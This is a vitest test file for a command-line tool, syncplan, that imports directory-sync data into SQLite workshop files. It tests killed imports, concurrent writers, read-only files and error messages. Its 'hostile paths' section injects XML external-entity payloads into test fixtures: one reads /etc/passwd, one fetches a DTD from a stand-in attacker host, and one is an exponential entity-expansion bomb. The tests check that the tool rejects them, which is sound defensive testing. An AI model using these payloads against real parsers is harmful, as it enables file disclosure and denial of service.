import { beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { chmodSync, cpSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { readInventory } from '../store/inventory-repo.js';
import { closeWorkshop, openWorkshop } from '../store/workshop-db.js';
import { damageLeafPage, ousCsv } from '../store/test-support/damage.js';
import { holdWriteLock } from '../store/test-support/lock-process.js';
import { repoRoot, samples, tempDir } from '../import/test-support/workshop.js';
import { writeLargeUserExport } from '../import/test-support/large-user-export.js';
import { runCli } from './main.js';
import type { Command } from './command.js';
import { unprivileged } from './test-support/unprivileged.js';

const bin = join(repoRoot, 'bin/syncplan.cjs');

function syncplan(cwd: string, args: string[], prefix: string[] = []) {
  const [command, ...rest] = [...prefix, process.execPath, bin, ...args] as [string, ...string[]];
  const run = spawnSync(command, rest, { encoding: 'utf8', cwd, timeout: 30_000, env: { ...process.env, SYNCPLAN_LOG_DIR: join(cwd, 'logs') } });
  return { status: run.status, signal: run.signal, stdout: run.stdout, stderr: run.stderr };
}

/** What every failure must look like: exit 1, one line on stderr, no stack trace. */
function expectOneLine(run: ReturnType<typeof syncplan>, message: RegExp) {
  expect(run.signal).toBeNull();
  expect(run.status).toBe(1);
  expect(run.stderr.split('\n')).toHaveLength(2);
  expect(run.stderr).not.toMatch(/^\s+at /m);
  expect(run.stderr).toMatch(message);
}

async function inventoryOf(path: string) {
  const { db } = await openWorkshop(path, { mode: 'read' });
  try {
    return readInventory(db);
  } finally {
    closeWorkshop(db);
  }
}

/** The inputs of one create+import: the sample estate, OUs and users, so that reading and writing both take a while. */
async function importInputs(dir: string): Promise<string[]> {
  cpSync(join(repoRoot, 'resources/sample-workshop'), join(dir, 'sample'), { recursive: true });
  writeFileSync(join(dir, 'ous.csv'), ousCsv(4000, 'fabrikam.com'));
  await writeLargeUserExport(join(dir, 'users.csv'), 30_000);
  return ['sample', 'ous.csv', 'users.csv'];
}

describe('a killed import', () => {
  it('leaves, at any moment of create+import, no workshop, an empty one or a complete one, and can be run again', async () => {
    const dir = tempDir('syncplan-crash-');
    const inputs = await importInputs(dir);
    const started = Date.now();
    expect(syncplan(dir, ['import', 'reference.syncplan', ...inputs]).status).toBe(0);
    const duration = Date.now() - started;
    const complete = await inventoryOf(join(dir, 'reference.syncplan'));
    expect(complete.ous.length).toBeGreaterThan(4000);

    let run = 0;
    const outcomes = new Set<string>();
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 0, max: Math.round(duration * 1.2) }), fc.constantFrom('SIGKILL', 'SIGTERM', 'SIGINT', 'SIGHUP'), async (delay, signal) => {
        const name = `w${run++}.syncplan`;
        const child = spawn(process.execPath, [bin, 'import', name, ...inputs], { cwd: dir, stdio: 'ignore' });
        const exited = once(child, 'exit');
        // A negative delay lets the import finish, however slow the machine is at the moment.
        if (delay >= 0) {
          await new Promise((resolve) => setTimeout(resolve, delay));
          child.kill(signal as NodeJS.Signals);
        }
        await exited;

        const path = join(dir, name);
        if (!existsSync(path)) outcomes.add('none');
        else {
          const found = await inventoryOf(path);
          const empty = found.forests.length === 0 && found.domains.length === 0 && found.ous.length === 0 && found.agents.length === 0;
          if (empty) outcomes.add('empty');
          else {
            expect(found).toEqual(complete);
            outcomes.add('complete');
          }
        }
        const again = syncplan(dir, ['import', name, ...inputs]);
        expect(again.stderr).toBe('');
        expect(await inventoryOf(path)).toEqual(complete);
        expect(readdirSync(dir).filter((f) => f.startsWith(`.${name}`) || f.startsWith(`${name}-`))).toEqual([]);
      }),
      // Each run takes seconds: report the first failure as found rather than shrink it. The examples
      // reach both ends: killed at once, and not killed at all.
      { numRuns: 10, endOnFailure: true, examples: [[0, 'SIGKILL'], [-1, 'SIGKILL']] },
    );
    expect([...outcomes].sort()).toEqual(expect.arrayContaining(['complete']));
  }, 180_000);

  it('stops on Ctrl+C with nothing written, and removes a workshop it had just created', async () => {
    const dir = tempDir('syncplan-interrupt-');
    writeFileSync(join(dir, 'forests.csv'), 'forest\nearlier.com\n');
    expect(syncplan(dir, ['import', 'w.syncplan', 'forests.csv']).status).toBe(0);
    await writeLargeUserExport(join(dir, 'users.csv'), 150_000);
    for (const workshop of ['w.syncplan', 'new.syncplan']) {
      const child = spawn(process.execPath, [bin, 'import', workshop, 'users.csv'], { cwd: dir, stdio: ['ignore', 'pipe', 'pipe'] });
      let stderr = '';
      child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
      const exited = once(child, 'exit');
      // Once the workshop is open (its WAL index exists) the import is under way, however slow the machine.
      while (!existsSync(join(dir, `${workshop}-shm`))) await new Promise((resolve) => setTimeout(resolve, 20));
      await new Promise((resolve) => setTimeout(resolve, 200));
      child.kill('SIGINT');
      const [code] = await exited;
      expect(code).toBe(1);
      expect(stderr).toBe('syncplan import: The import was cancelled; nothing was written.\n');
    }
    expect((await inventoryOf(join(dir, 'w.syncplan'))).forests.map((f) => f.forest)).toEqual(['earlier.com']);
    expect(existsSync(join(dir, 'new.syncplan'))).toBe(false);
  });
});

describe('writers at the same time', () => {
  it('two imports into one workshop both land, one after the other', async () => {
    const dir = tempDir('syncplan-concurrent-');
    writeFileSync(join(dir, 'a.csv'), 'forest\na.example\n');
    writeFileSync(join(dir, 'b.csv'), 'forest\nb.example\n');
    writeFileSync(join(dir, 'ous.csv'), ousCsv(20_000, 'a.example'));
    expect(syncplan(dir, ['import', 'w.syncplan', 'a.csv']).status).toBe(0);
    const runs = ['ous.csv', 'b.csv'].map((input) => {
      const child = spawn(process.execPath, [bin, 'import', 'w.syncplan', input], { cwd: dir, stdio: ['ignore', 'ignore', 'pipe'] });
      let stderr = '';
      child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
      return once(child, 'exit').then(([code]) => ({ code, stderr }));
    });
    expect(await Promise.all(runs)).toEqual([
      { code: 0, stderr: '' },
      { code: 0, stderr: '' },
    ]);
    const inventory = await inventoryOf(join(dir, 'w.syncplan'));
    expect(inventory.forests.map((f) => f.forest)).toEqual(['a.example', 'b.example']);
    expect(inventory.ous).toHaveLength(20_000);
    const db = new Database(join(dir, 'w.syncplan'), { readonly: true });
    expect(db.pragma('integrity_check', { simple: true })).toBe('ok');
    db.close();
  });

  it('an import blocked by another program says who holds the workshop, and writes nothing', async () => {
    const dir = tempDir('syncplan-locked-');
    writeFileSync(join(dir, 'a.csv'), 'forest\na.example\n');
    writeFileSync(join(dir, 'b.csv'), 'forest\nb.example\n');
    expect(syncplan(dir, ['import', 'w.syncplan', 'a.csv']).status).toBe(0);
    const holder = await holdWriteLock(join(dir, 'w.syncplan'));
    let run;
    try {
      const child = spawn(process.execPath, [bin, 'import', 'w.syncplan', 'b.csv'], { cwd: dir, stdio: ['ignore', 'pipe', 'pipe'] });
      let stderr = '';
      child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
      const [status] = await once(child, 'exit');
      run = { status, signal: null, stdout: '', stderr };
    } finally {
      await holder.release();
    }
    const who = process.platform === 'linux' ? `node \\(process ${holder.pid}\\)` : 'another program';
    expectOneLine(run, new RegExp(`^syncplan import: w\\.syncplan is in use by ${who}, which is changing it; nothing was changed here\\.`));
    expect((await inventoryOf(join(dir, 'w.syncplan'))).forests.map((f) => f.forest)).toEqual(['a.example']);
  }, 30_000);
});

const asNobody = unprivileged();
if (asNobody.skip) console.warn(`read-only cases skipped: ${asNobody.skip}`);

describe('hostile paths and files', () => {
  /** One workshop with data, plus the hostile neighbours each case points at. */
  let shared: string | undefined;
  beforeAll(async () => {
    shared = await hostileFolder();
  });

  async function hostileFolder() {
    const dir = tempDir('syncplan-hostile-');
    chmodSync(dir, 0o755);
    writeFileSync(join(dir, 'forests.csv'), 'forest\ncontoso.com\n');
    writeFileSync(join(dir, 'ous.csv'), ousCsv(3000, 'contoso.com'));
    expect(syncplan(dir, ['import', 'good.syncplan', 'forests.csv', 'ous.csv']).status).toBe(0);
    cpSync(join(dir, 'good.syncplan'), join(dir, 'damaged.syncplan'));
    damageLeafPage(join(dir, 'damaged.syncplan'), 'ous');
    mkdirSync(join(dir, 'folder.syncplan'));
    mkdirSync(join(dir, 'empty-folder'));
    expect(spawnSync('mkfifo', [join(dir, 'pipe.syncplan'), join(dir, 'pipe.csv')]).status).toBe(0);
    for (const [name, doctype] of Object.entries(XML_ENTITIES)) {
      const folder = join(dir, name);
      cpSync(samples('aadconnect-contoso'), folder, { recursive: true });
      const mv = join(folder, 'GlobalSettings', 'MV.xml');
      writeFileSync(mv, readFileSync(mv, 'utf8').replace(/^(<\?xml[^>]*\?>)?/, (declaration) => `${declaration}\n${doctype}`));
    }
    return dir;
  }

  const XML_ENTITIES = {
    'external-entity': '<!DOCTYPE saved-mv-configuration [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
    'parameter-entity': '<!DOCTYPE saved-mv-configuration [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>',
    'oversized-entity': `<!DOCTYPE saved-mv-configuration [<!ENTITY a "${'x'.repeat(100)}"><!ENTITY b "${'&a;'.repeat(100)}"><!ENTITY c "${'&b;'.repeat(100)}">]>`,
  };

  const cases: [string, string[], RegExp][] = [
    ['a workshop path that is a folder', ['show', 'folder.syncplan', '--json'], /^syncplan show: folder\.syncplan is a folder, not a workshop file; choose a \.syncplan file\.$/m],
    ['a workshop path that is a pipe', ['decide', 'pipe.syncplan', '--json'], /^syncplan decide: pipe\.syncplan is a named pipe \(FIFO\), not a workshop file/m],
    ['a pipe as the import target', ['import', 'pipe.syncplan', 'forests.csv'], /^syncplan import: pipe\.syncplan is a named pipe \(FIFO\), not a workshop file/m],
    ['a device as the workshop', ['show', '/dev/zero', '--json'], /^syncplan show: zero is a device, not a workshop file/m],
    ['a pipe as an input', ['import', 'good.syncplan', 'pipe.csv'], /^syncplan import: pipe\.csv: is a named pipe \(FIFO\), which SyncPlan does not read: save its data to a file and import that$/m],
    ['a device as an input', ['import', 'good.syncplan', '/dev/zero'], /^syncplan import: \/dev\/zero: is a device, not a file$/m],
    ['a folder with nothing to import', ['import', 'good.syncplan', 'empty-folder'], /^syncplan import: empty-folder: this folder holds no CSV file/m],
    ...(['show', 'decide'] as const).map(
      (command): [string, string[], RegExp] => [
        `a damaged workshop (${command})`,
        [command, 'damaged.syncplan', '--json'],
        new RegExp(`^syncplan ${command}: damaged\\.syncplan is damaged \\(SQLite reports: .+\\)\\. Run "syncplan recover damaged\\.syncplan <new file>" to copy what is still readable into a new workshop; the damaged file is left as it is\\.$`, 'm'),
      ],
    ),
    ['a damaged workshop (import)', ['import', 'damaged.syncplan', 'forests.csv'], /^syncplan import: damaged\.syncplan is damaged \(SQLite reports: .+\)\. Run "syncplan recover/m],
    ...Object.keys(XML_ENTITIES).map(
      (name): [string, string[], RegExp] => [
        `a Connect export declaring an ${name.replace('-', ' ')}`,
        ['import', 'good.syncplan', name],
        new RegExp(`^syncplan import: .*${name}/GlobalSettings/MV\\.xml, line 2: declares a document type \\(<!DOCTYPE …>, with entity declarations\\), which Entra Connect configuration exports never have; nothing was imported\\.`, 'm'),
      ],
    ),
  ];

  it.each(cases)('%s: one sentence naming the file, exit 1, nothing changed', async (_name, args, message) => {
    const dir = shared as string;
    const before = readFileSync(join(dir, 'good.syncplan'));
    expectOneLine(syncplan(dir, args), message);
    expect(readFileSync(join(dir, 'good.syncplan')).equals(before)).toBe(true);
    expect(existsSync(join(dir, 'damaged.syncplan-shm'))).toBe(false);
  });

  it.skipIf(asNobody.skip !== undefined)('a read-only workshop and a read-only folder: shown and decided, imports refused, nothing created beside them', async () => {
    const prefix = asNobody.prefix ?? [];
    const dir = await hostileFolder();
    const readOnlyFolder = join(dir, 'locked');
    mkdirSync(readOnlyFolder);
    cpSync(join(dir, 'good.syncplan'), join(readOnlyFolder, 'w.syncplan'));
    chmodSync(join(readOnlyFolder, 'w.syncplan'), 0o644);
    chmodSync(readOnlyFolder, 0o555);
    cpSync(join(dir, 'good.syncplan'), join(dir, 'read-only.syncplan'));
    chmodSync(join(dir, 'read-only.syncplan'), 0o444);
    chmodSync(join(dir, 'forests.csv'), 0o644);
    chmodSync(dir, 0o777);

    for (const workshop of ['read-only.syncplan', 'locked/w.syncplan']) {
      const shown = syncplan(dir, ['show', workshop, '--json'], prefix);
      expect(shown.stderr).toBe('');
      expect(JSON.parse(shown.stdout).forests.map((f: { forest: string }) => f.forest)).toEqual(['contoso.com']);
      expect(syncplan(dir, ['decide', workshop, '--json'], prefix).status).toBe(0);
      expectOneLine(
        syncplan(dir, ['import', workshop, 'forests.csv'], prefix),
        /^syncplan import: (read-only|w)\.syncplan cannot be changed because the file is read-only; nothing was imported\. Copy it to a folder you can write to first\.$/m,
      );
    }
    expectOneLine(syncplan(dir, ['import', 'locked/new.syncplan', 'forests.csv'], prefix), /^syncplan import: new\.syncplan cannot be created in .*locked: the folder is read-only\. Choose another folder\.$/m);
    expect(readdirSync(readOnlyFolder)).toEqual(['w.syncplan']);
    expect(readdirSync(dir).filter((f) => f.startsWith('read-only.syncplan'))).toEqual(['read-only.syncplan']);
  });
});

describe('what reaches the terminal', () => {
  it('a bug is one line saying where its details were logged; the stack goes to the log', async () => {
    const dir = tempDir('syncplan-bug-');
    const broken: Command = {
      name: 'broken',
      summary: 'always fails',
      help: 'Usage: syncplan broken\n',
      run: async () => {
        throw new TypeError("Cannot read properties of undefined (reading 'forest')");
      },
    };
    let stderr = '';
    const code = await runCli(['broken'], { stdout: { write: () => true }, stderr: { write: (t: string) => (stderr += t) }, cwd: dir, logDir: join(dir, 'logs') }, [broken]);
    const log = join(dir, 'logs', 'syncplan-errors.log');
    expect(code).toBe(1);
    expect(stderr).toBe(
      `syncplan broken: SyncPlan hit an unexpected problem while running "syncplan broken" (a bug: Cannot read properties of undefined (reading 'forest')). The details are in ${log}; please send that file to the SyncPlan team.\n`,
    );
    expect(readFileSync(log, 'utf8')).toMatch(/while running "syncplan broken"\nTypeError: Cannot read properties of undefined \(reading 'forest'\)\n\s+at /);
  });

  it('a reader that stops early (| head) ends the command quietly', async () => {
    const dir = tempDir('syncplan-pipe-');
    expect(syncplan(dir, ['import', 'w.syncplan', join(repoRoot, 'resources/sample-workshop')]).status).toBe(0);
    const child = spawn(process.execPath, [bin, 'decide', 'w.syncplan', '--json'], { cwd: dir, stdio: ['ignore', 'pipe', 'pipe'] });
    let stderr = '';
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    child.stdout.once('data', () => child.stdout.destroy());
    const [code] = await once(child, 'exit');
    expect(stderr).toBe('');
    expect(code).toBe(0);
  });
});
